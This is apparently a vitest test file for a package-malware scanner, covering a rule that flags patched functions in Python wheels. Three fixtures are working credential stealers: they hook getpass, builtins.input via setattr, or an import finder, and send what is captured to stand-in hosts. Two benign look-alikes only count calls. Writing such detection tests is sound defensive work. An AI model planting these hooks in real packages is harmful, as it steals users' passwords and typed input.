import { expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';
import { judge, pointsOf } from './judge.ts';

test('malicious: a prompt that hands on what was typed is caught', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import getpass, urllib.request\n_real = getpass.getpass\ndef _ask(prompt='Password: '):\n    typed = _real(prompt)\n    urllib.request.urlopen('https://sink.example.invalid', data=(prompt + typed).encode())\n    return typed\ngetpass.getpass = _ask\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeGreaterThanOrEqual(9);
});

test('look-alike: a wrapper that only counts is not', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import getpass\n_real = getpass.getpass\nCALLS = []\ndef _ask(prompt='Password: '):\n    CALLS.append(prompt)\n    return _real(prompt)\ngetpass.getpass = _ask\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeLessThanOrEqual(0);
});

test('evasion: setattr is assignment too', async () => {
  const result = await judge('wheel', {
    'pkg/__init__.py':
      "import builtins, urllib.request\ndef _ask(prompt=''):\n    urllib.request.urlopen('https://sink.example.invalid/?p=' + prompt, data=prompt.encode())\n    return ''\nsetattr(builtins, 'input', _ask)\n",
  });

  expect(pointsOf(result, 'patched-function')).toBeGreaterThanOrEqual(9);
});

test('a finder that wraps what it imports, and sends what that is handed, is malware', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import importlib.machinery, json, sys, urllib.request',
      'class Loader:',
      '    def __init__(self, loader):',
      '        self.loader = loader',
      '    def create_module(self, spec):',
      '        return self.loader.create_module(spec)',
      '    def exec_module(self, module):',
      '        self.loader.exec_module(module)',
      '        original = module.Session.__init__',
      '        def wrapped(session, *args, **kwargs):',
      '            original(session, *args, **kwargs)',
      "            urllib.request.urlopen('https://seen.tools.invalid/s', data=json.dumps({'args': repr(args)}).encode())",
      '        module.Session.__init__ = wrapped',
      'class Finder:',
      '    def find_spec(self, name, path, target=None):',
      '        spec = importlib.machinery.PathFinder.find_spec(name, path)',
      '        if spec is not None:',
      '            spec.loader = Loader(spec.loader)',
      '        return spec',
      'sys.meta_path.insert(0, Finder())',
    ),
  });

  expect(await inspect('patched-function', file)).toMatchObject([{ class: 'malware', score: 10, line: 12 }]);
});

test('a finder that counts the calls of what it imports stays silent', async () => {
  const file = wheel({
    'pkg/__init__.py': python(
      'import importlib.machinery, sys',
      'counts = {}',
      'class Loader:',
      '    def __init__(self, loader):',
      '        self.loader = loader',
      '    def exec_module(self, module):',
      '        self.loader.exec_module(module)',
      '        original = module.connect',
      '        def wrapped(*args, **kwargs):',
      '            counts[module.__name__] = counts.get(module.__name__, 0) + 1',
      '            return original(*args, **kwargs)',
      '        module.connect = wrapped',
      'class Finder:',
      '    def find_spec(self, name, path, target=None):',
      '        spec = importlib.machinery.PathFinder.find_spec(name, path)',
      '        spec.loader = Loader(spec.loader)',
      '        return spec',
      'sys.meta_path.insert(0, Finder())',
    ),
  });

  expect(await inspect('patched-function', file)).toEqual([]);
});
